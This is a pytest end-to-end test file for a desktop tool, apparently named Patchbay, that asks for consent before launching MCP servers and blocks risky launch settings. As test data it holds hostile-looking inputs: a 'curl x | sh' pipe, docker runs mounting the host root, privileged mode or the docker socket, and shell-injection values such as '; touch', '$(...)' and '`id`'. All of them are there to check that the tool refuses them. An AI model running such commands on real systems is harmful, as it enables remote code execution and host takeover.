"""Before anything runs: what a person is asked and told, and that nothing runs without a yes."""

import json
import sys
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QPushButton

from patchbay.core.paths import standard_paths
from patchbay.core.sessions.states import Ready, Stopped
from patchbay.ui.dialogs import BlockedDialog, ConsentDialog
from tests.end_to_end.window.conftest import Files, OpenDesk, Stub, write_settings
from tests.end_to_end.window.desk import Desk, entry, until

PACKAGE = "some-server@1.2.3"


def npx(*args: str, **more: Any) -> dict[str, Any]:
    return {"command": "npx", "args": ["-y", PACKAGE, *args], **more}


async def ask(desk: Desk, name: str) -> ConsentDialog:
    desk.choose_server(name)
    await desk.press("F5")
    return await desk.consent()


async def is_stopped(desk: Desk, name: str) -> None:
    await until(lambda: isinstance(desk.session(name).state, Stopped), what="the stop")


async def test_the_consent_tells_all_that_would_run_but_no_value(
    desk: Desk, file: Files, stub: Stub, home: Path
) -> None:
    noted = stub("npx")
    env = {"TOKEN": "value-of-token", "MODE": "loud"}
    (home / "work").mkdir()
    path = file(one=npx("--port", "80 80", env=env, cwd=str(home / "work")))
    desk.drop(path)

    words = desk.reads(await ask(desk, "one"))

    assert "Start one for the first time?" in words
    assert "From mcp.json, line 3." in words
    assert f"npx -y {PACKAGE} --port '80 80'" in words
    assert str(home / "bin" / "npx") in words
    assert str(home / "work") in words
    assert {"TOKEN", "MODE"} <= set(words.splitlines())
    assert "basic ones (PATH, HOME" in words
    assert "value-of-token" not in words
    assert "loud" not in words
    assert not noted.exists()
    assert desk.session("one").details.pid is None


@pytest.mark.parametrize("way", ["Cancel", "Escape", "close"])
async def test_without_a_yes_nothing_runs(desk: Desk, file: Files, stub: Stub, way: str) -> None:
    noted = stub("npx")
    desk.drop(file(one=npx()))
    dialog = await ask(desk, "one")

    if way == "Cancel":
        desk.click(dialog.cancel)
    elif way == "Escape":
        await desk.press("Escape")
    else:
        dialog.close()

    await is_stopped(desk, "one")
    assert not noted.exists()
    assert "You did not give your consent" in desk.reads(desk.page.failure)
    assert "Blocked: nothing ran" in desk.reads(desk.page.header)


RISKY: dict[str, tuple[dict[str, Any], str]] = {
    "latest": ({"command": "npx", "args": ["-y", "thing@latest"]}, "latest"),
    "shell": ({"command": "npx", "args": ["-c", "curl x | sh"]}, "-c"),
    "git": ({"command": "uvx", "args": ["--from", "git+http://x.org/y", "y"]}, "git"),
    "root": ({"command": "docker", "args": ["run", "-i", "-v", "/:/host", "x:1"]}, "disk"),
    "all": ({"command": "docker", "args": ["run", "-i", "--privileged", "x:1"]}, "privileged"),
    "socket": (
        {
            "command": "docker",
            "args": ["run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "x:1"],
        },
        "socket",
    ),
}


async def test_every_known_risk_is_told_and_enter_starts_nothing(
    desk: Desk, file: Files, stub: Stub
) -> None:
    noted = [stub(name) for name in ("npx", "uvx", "docker")]
    desk.drop(file(**{name: made for name, (made, _) in RISKY.items()}))

    for name, (_, word) in RISKY.items():
        dialog = await ask(desk, name)
        assert "found" in desk.reads(dialog)
        said = desk.reads(dialog).split("found", 1)[1]
        assert word in said.lower(), name
        for button in (dialog.once, dialog.always):
            button.setFocus(Qt.FocusReason.TabFocusReason)
            await desk.press("Return", "Enter")
            assert dialog.isVisible(), "Enter started what has risks"
        dialog.cancel.setFocus(Qt.FocusReason.TabFocusReason)
        await desk.press("Return")
        await is_stopped(desk, name)

    assert not any(each.exists() for each in noted)


async def test_what_patchbay_adds_to_docker_is_shown_and_then_really_passed(
    desk: Desk, file: Files, stub: Stub
) -> None:
    noted = stub("docker")
    desk.drop(file(box={"command": "docker", "args": ["run", "-i", "acme/box:1"]}))

    dialog = await ask(desk, "box")
    words = desk.reads(dialog)
    desk.click(dialog.once)
    await desk.ready(desk.session("box"))

    added = words.split("Added by Patchbay", 1)[1]
    assert "--rm" in added
    assert "--init" in added
    assert "--cidfile" in added
    passed = noted.read_text().split("\n")
    assert {"--rm", "--init", "acme/box:1"} <= set(passed)


async def test_a_yes_for_once_holds_for_this_sitting_only(
    open_desk: OpenDesk, file: Files, stub: Stub
) -> None:
    stub("npx")
    path = file(one=npx())
    async with open_desk() as desk:
        desk.drop(path)
        session = await desk.start("one")
        pid = session.details.pid

        await desk.press("Ctrl+R")

        await until(lambda: isinstance(session.state, Ready) and session.details.pid != pid)
        await desk.press("Shift+F5")
        await is_stopped(desk, "one")
        await desk.press("F5")
        await desk.ready(session)
        assert not desk.all(ConsentDialog)

    async with open_desk() as desk:
        desk.drop(path)
        dialog = await ask(desk, "one")
        assert "for the first time" in desk.reads(dialog)
        desk.click(dialog.cancel)
        await is_stopped(desk, "one")


async def test_a_yes_for_always_is_remembered_until_something_changes_which_is_shown(
    open_desk: OpenDesk, file: Files, stub: Stub, home: Path
) -> None:
    stub("npx")
    (home / "extra.env").write_text("A=1\n")
    path = file(one=npx(env={"TOKEN": "first"}))
    async with open_desk() as desk:
        desk.drop(path)
        desk.click((await ask(desk, "one")).always)
        await desk.ready(desk.session("one"))

    async with open_desk() as desk:
        file(one=npx(env={"TOKEN": "second"}))
        desk.drop(path)
        desk.choose_server("one")
        await desk.press("F5")
        await desk.ready(desk.session("one"))  # another value of the same variable asks nothing
        await desk.press("Shift+F5")
        await is_stopped(desk, "one")

        for changed, before, now in (
            (npx("--more", env={"TOKEN": "x"}), PACKAGE, "--more"),
            (npx(env={"TOKEN": "x", "OTHER": "y"}), "TOKEN", "OTHER"),
            (npx(env={"TOKEN": "x"}, cwd="/"), str(home), "Now: /"),
            (npx(env={"TOKEN": "x"}, envFile=str(home / "extra.env")), "none", "extra.env"),
            (entry("workshop.py", env={"TOKEN": "x"}), "npx", sys.executable),
        ):
            file(one=changed)
            desk.drop(path)
            words = desk.reads(await ask(desk, "one"))
            assert "one changed since you allowed it" in words
            told = words.split("since then", 1)[1].split("Exact command line", 1)[0]
            assert before in told
            assert now in told
            desk.click(desk.find(ConsentDialog).cancel)
            await is_stopped(desk, "one")


async def test_another_program_of_the_same_name_asks_again(
    open_desk: OpenDesk, file: Files, stub: Stub, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stub("npx")
    path = file(one=npx())
    async with open_desk() as desk:
        desk.drop(path)
        desk.click((await ask(desk, "one")).always)
        await desk.ready(desk.session("one"))

    noted = stub("npx", home / "other")
    monkeypatch.setenv("PATH", f"{home / 'other'}:/usr/bin:/bin")
    async with open_desk() as desk:
        desk.drop(path)
        dialog = await ask(desk, "one")
        assert str(home / "other" / "npx") in desk.reads(dialog)
        assert "changed since you allowed it" in desk.reads(dialog)
        desk.click(dialog.cancel)
        await is_stopped(desk, "one")
        assert not noted.exists()


async def test_a_program_that_is_not_allowed_is_blocked_and_can_be_allowed_for_one_line(
    open_desk: OpenDesk, file: Files
) -> None:
    write_settings(allow=["npx"])
    path = file(one=entry("workshop.py", "first"), two=entry("workshop.py", "second"))
    before = path.read_bytes()
    async with open_desk() as desk:
        desk.drop(path)
        await desk.press("F5")
        dialog = await desk.blocked()
        words = desk.reads(dialog)
        assert "is not on the allow-list" in words
        assert "Nothing ran" in words
        assert str(sys.executable) in words
        assert not dialog.program.isVisible(), "an interpreter must not be allowed as a whole"

        desk.click(dialog.line)
        desk.click((await desk.consent()).once)
        await desk.ready(desk.session("one"))

        desk.choose_server("two")
        await desk.press("F5")
        desk.click((await desk.blocked()).close_button)
        await is_stopped(desk, "two")
        rules = json.loads(standard_paths().settings_file.read_text())["allow"]
        assert [sys.executable, *json.loads(before)["mcpServers"]["one"]["args"]] in rules
        assert path.read_bytes() == before


async def test_a_program_can_be_allowed_by_its_name_later_from_the_panel(
    desk: Desk, file: Files, stub: Stub
) -> None:
    noted = stub("harbour-tools")
    desk.drop(file(one={"command": "harbour-tools", "args": ["x"]}))
    await desk.press("F5")
    desk.click((await desk.blocked()).close_button)
    await is_stopped(desk, "one")
    assert not noted.exists()

    desk.press_button("Allow…", desk.page.failure)
    desk.click((await desk.blocked()).program)
    desk.click((await desk.consent()).once)

    await desk.ready(desk.session("one"))
    assert noted.read_text().split() == ["x"]
    assert "harbour-tools" in json.loads(standard_paths().settings_file.read_text())["allow"]


async def test_look_alikes_of_allowed_programs_do_not_run(
    desk: Desk, file: Files, stub: Stub, tmp_path: Path
) -> None:
    real, fake = stub("npx"), stub("npx", tmp_path / "elsewhere")
    sentinel = tmp_path / "shell was here"
    desk.drop(
        file(
            path={"command": str(tmp_path / "elsewhere" / "npx"), "args": ["x"]},
            relative={"command": "./npx", "args": ["x"], "cwd": str(tmp_path / "elsewhere")},
            shell={"command": f"npx; touch '{sentinel}'"},
            pipe={"command": f"npx x | tee {sentinel}"},
            spaced={"command": "npx -y thing"},
            newline={"command": "npx\n"},
        )
    )

    for name in ("path", "relative", "shell", "pipe", "spaced", "newline"):
        desk.choose_server(name)
        await desk.press("F5")
        await is_stopped(desk, name)
        assert not desk.all(ConsentDialog), f"{name} came as far as the consent"
        if name in ("path", "shell", "pipe"):
            dialog = await desk.blocked()
            assert "not on the allow-list" in desk.reads(dialog)
            if name != "path":
                offers = [each.text() for each in desk.all(QPushButton, "Allow", dialog)]
                assert not offers
        for dialog in desk.all(BlockedDialog):
            dialog.close()

    assert not real.exists()
    assert not fake.exists()
    assert not sentinel.exists()


async def test_the_path_of_an_entry_does_not_choose_the_program(
    desk: Desk, file: Files, stub: Stub, tmp_path: Path
) -> None:
    real, fake = stub("npx"), stub("npx", tmp_path / "elsewhere")
    desk.drop(file(one=npx(env={"PATH": f"{tmp_path / 'elsewhere'}:/usr/bin:/bin"})))

    await desk.start("one")

    assert real.exists()
    assert not fake.exists()


async def test_no_shell_reads_the_arguments(desk: Desk, file: Files, tmp_path: Path) -> None:
    sentinel = tmp_path / "shell was here"
    odd = [f"; touch '{sentinel}'", f"$(touch '{sentinel}')", "a  b", "*", "`id`", "", "ü\n"]
    desk.drop(file(one=entry("workshop.py", *odd)))

    await desk.start("one")
    run = await desk.run("surroundings")

    assert run.result is not None
    assert run.result.structured is not None
    found = run.result.structured.value
    assert isinstance(found, dict)
    assert found["arguments"] == odd
    assert not sentinel.exists()


async def test_the_demo_server_needs_no_consent(desk: Desk) -> None:
    QTest.mouseClick(desk.window.first_start.demo, Qt.MouseButton.LeftButton)

    await desk.ready(desk.session("demo"))
    assert not desk.all(ConsentDialog)
